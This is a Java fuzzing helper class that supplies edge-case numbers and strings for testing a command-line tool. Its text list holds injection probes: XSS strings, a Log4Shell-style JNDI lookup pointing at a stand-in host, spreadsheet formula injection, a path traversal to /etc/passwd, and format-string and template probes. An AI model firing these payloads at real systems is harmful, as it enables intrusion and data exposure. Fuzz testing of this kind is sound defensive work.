package dev.evenhand.cli.fuzz;

import java.util.List;
import java.util.Random;

/** Values that programs stumble over. */
final class Oddities {
  private static final List<String> NUMBERS =
      List.of(
          "0",
          "-0",
          "-1",
          "1e999999999",
          "-1e400",
          "1e-400",
          "1e9",
          "0.1",
          "0.123456789",
          "NaN",
          "Infinity",
          "-Infinity",
          "2147483648",
          "9223372036854775808",
          "1e15",
          "999999999999",
          "00",
          "+1",
          ".5",
          "5.",
          "0x10",
          "1,5",
          "100.000001",
          "9".repeat(59),
          "9".repeat(5000));

  private static final List<String> JSON =
      List.of("null", "true", "false", "[]", "{}", "[[]]", "{\"a\":{}}", "[null]", "\"\"");

  /** None holds a quote, so that each can stand in quotes. */
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          "\u001B[31mred",
          "\u0007",
          "\u009B2J",
          "\u202Egpj",
          "\u2066",
          "\u2028",
          "\u2029",
          "\u0085",
          "\uFEFF",
          "\u200B",
          "\uD800",
          "\uDC00",
          "😀",
          "é",
          "e\u0301",
          "İ",
          "ß",
          "=1+1",
          "+1",
          "-1",
          "@SUM(A1)",
          "\t=1",
          "x;=1+1",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "</style><u>",
          "' onmouseover='alert(1)",
          "javascript:a",
          "${jndi:ldap://evil.example}",
          "%s%n%d",
          "{{7*7}}",
          "../../etc/passwd",
          "/dev/null",
          "-",
          "--",
          "n/a",
          "N/A",
          "null",
          "none",
          "true",
          "yes",
          "no",
          "constructor",
          "__proto__",
          "toString",
          "hashCode",
          "1.0.0",
          "phone-support@1.0.0",
          "a".repeat(200),
          "w ".repeat(3000),
          "9".repeat(400),
          "\\u0000",
          "\\ud800",
          "\\",
          "|",
          "*",
          "1e999999999");

  private Oddities() {}

  /** A value, mostly with quotes where another one had them. */
  static String value(Random random, boolean quoted) {
    int sort = random.nextInt(10);
    if (sort == 0) {
      return any(JSON, random);
    }
    boolean text = sort < 7 == quoted;
    String value = any(text ? TEXTS : NUMBERS, random);
    return text || sort == 1 ? '"' + value + '"' : value;
  }

  /**
   * Another value where a token stood, of its sort.
   *
   * @param json whether a text without quotes would be none
   */
  static String alike(Random random, String token, boolean json) {
    if (token.startsWith("\"")) {
      return '"' + any(TEXTS, random) + '"';
    }
    boolean number = json || Character.isDigit(token.charAt(0)) && random.nextInt(4) > 0;
    return any(number ? NUMBERS : TEXTS, random);
  }

  /** A line of its own. */
  static String line(Random random) {
    return any(TEXTS, random) + "," + any(NUMBERS, random) + "," + any(TEXTS, random) + "\n";
  }

  /** A number, or what is none. */
  static String number(Random random) {
    return any(NUMBERS, random);
  }

  /** A text, or none. */
  static String text(Random random) {
    return any(TEXTS, random);
  }

  private static String any(List<String> values, Random random) {
    return values.get(random.nextInt(values.size()));
  }
}
